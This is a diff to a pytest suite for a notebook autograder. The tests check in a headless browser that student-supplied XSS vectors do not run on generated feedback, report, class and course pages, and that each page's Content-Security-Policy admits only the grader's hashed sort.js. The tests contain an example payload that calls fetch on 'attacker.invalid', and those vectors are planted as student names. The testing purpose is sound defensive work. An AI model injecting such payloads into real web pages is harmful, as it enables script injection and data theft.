@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import json
 import shutil
 from collections.abc import Iterator
@@ -10,18 +12,14 @@ from pathlib import Path
 import nbformat
 import pytest
 import tiny_course
+from chromium import chromium, in_a_browser, sync_api
 from commands import run
+from nbgrader.api import Gradebook
 
-from grader.pages import ClassRow, class_page
+import grader
+from grader.course import load_course
 
-sync_api = pytest.importorskip("playwright.sync_api")
-CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome") or shutil.which("chromium-browser")
-
-pytestmark = [
-    pytest.mark.slow,
-    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: scripts/browser installs it"),
-    pytest.mark.xdist_group("browser"),
-]
+pytestmark = in_a_browser
 
 RUN = "fetch('http://attacker.invalid/');window.owned=(window.owned||0)+1"
 VECTORS = [
@@ -89,9 +87,12 @@ def cells() -> list[nbformat.NotebookNode]:
     return [*(nbformat.v4.new_code_cell(source) for source in code), *text, raw]
 
 
+# But for links that we made, to the files beside a page.
 CLICK = """() => {
+    const here = location.href.split("#")[0];
+    const ours = (one) => /^file:/.test(one.href || "") && !one.href.startsWith(here);
     for (const one of document.querySelectorAll("a, button, summary, input"))
-        if (!/^https?:/.test(one.href || "")) { one.focus && one.focus(); one.click() }
+        if (!/^https?:/.test(one.href || "") && !ours(one)) { one.focus && one.focus(); one.click() }
 }"""
 HANDLERS = """() => [...document.querySelectorAll("*")].flatMap((one) =>
     [...one.attributes].filter((a) => /^on/.test(a.name) || /^\\s*javascript:/i.test(a.value))
@@ -110,22 +111,26 @@ def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
     run(root, "grader", "autograde", "tiny")
     run(root, "nbgrader", "generate_feedback", "tiny")
     run(root, "grader", "grade", str(notebook), "--html", "report.html")
+    course = load_course(root)
+    with Gradebook(course.gradebook_url, course.id) as gradebook:
+        for number, vector in enumerate(VECTORS):
+            gradebook.add_student(f"{number}{vector}"[:128], first_name=vector, last_name=vector)
+    run(root, "grader", "report", "tiny")
+    run(root, "grader", "report")
     report = json.loads((root / "reports" / "tiny" / "student01.json").read_text())
     assert report["score"] == 40, "its honest part earns what it should, and nothing else does"
-    told = tuple(check["message"] for problem in report["problems"] for check in problem["checks"])
-    row = ClassRow(VECTORS[1], 1.0, 0.0, (*told, *VECTORS), about=VECTORS[0])
-    (root / "class.html").write_text(class_page(VECTORS[0], 100, [row]), encoding="utf-8")
-    feedback = root / "feedback" / "student01" / "tiny" / "tiny.html"
-    return {"feedback": feedback, "report": root / "report.html", "class": root / "class.html"}
+    return {
+        "feedback": root / "feedback" / "student01" / "tiny" / "tiny.html",
+        "report": root / "report.html",
+        "class": root / "reports" / "tiny.html",
+        "course": root / "reports" / "course-overview.html",
+    }
 
 
 @pytest.fixture(scope="module")
 def browser() -> Iterator[sync_api.Browser]:
-    with sync_api.sync_playwright() as playwright:
-        arguments = ["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-sync"]
-        started = playwright.chromium.launch(executable_path=CHROMIUM, args=arguments)
+    with chromium() as started:
         yield started
-        started.close()
 
 
 def happened(browser: sync_api.Browser, file: Path) -> list[str]:
@@ -151,7 +156,7 @@ def happened(browser: sync_api.Browser, file: Path) -> list[str]:
     return found
 
 
-@pytest.mark.parametrize("name", ["feedback", "report", "class"])
+@pytest.mark.parametrize("name", ["feedback", "report", "class", "course"])
 def test_nothing_of_a_student_s_runs_and_nothing_is_loaded(
     browser: sync_api.Browser, pages: dict[str, Path], name: str
 ) -> None:
@@ -168,9 +173,32 @@ def test_on_a_page_that_is_not_made_safe_it_would_run(browser: sync_api.Browser,
     assert works >= 20
 
 
-@pytest.mark.parametrize("name", ["report", "class"])
-def test_our_own_pages_allow_no_script_at_all(pages: dict[str, Path], name: str) -> None:
-    markup = pages[name].read_text(encoding="utf-8")
+def test_the_page_of_a_submission_allows_no_script_at_all(pages: dict[str, Path]) -> None:
+    markup = pages["report"].read_text(encoding="utf-8")
     assert (
         "Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:\"" in markup
     )
+
+
+@pytest.mark.parametrize("name", ["class", "course"])
+def test_the_pages_of_a_class_allow_one_script_and_that_is_ours(pages: dict[str, Path], name: str) -> None:
+    markup = pages[name].read_text(encoding="utf-8")
+    ours = (Path(grader.__file__).parent / "templates" / "sort.js").read_text(encoding="utf-8")
+    digest = base64.b64encode(hashlib.sha256(ours.encode()).digest()).decode()
+    assert f"default-src 'none'; script-src 'sha256-{digest}'; style-src 'unsafe-inline'; img-src data:" in markup
+    assert f"<script>{ours}</script>" in markup
+
+
+@pytest.mark.parametrize("name", ["class", "course"])
+def test_in_the_page_of_a_class_no_other_script_would_run(
+    browser: sync_api.Browser, pages: dict[str, Path], tmp_path: Path, name: str
+) -> None:
+    """Were something put on it without being escaped, its policy would stop it."""
+    markup = pages[name].read_text(encoding="utf-8")
+    spoilt = tmp_path / "spoilt.html"
+    spoilt.write_text(markup.replace("<main>", f"<main>{VECTORS[0]}{VECTORS[1]}{VECTORS[3]}"), encoding="utf-8")
+    page = browser.new_page()
+    page.goto(spoilt.as_uri())
+    page.wait_for_timeout(300)
+    assert page.evaluate("window.owned || 0") == 0
+    page.close()
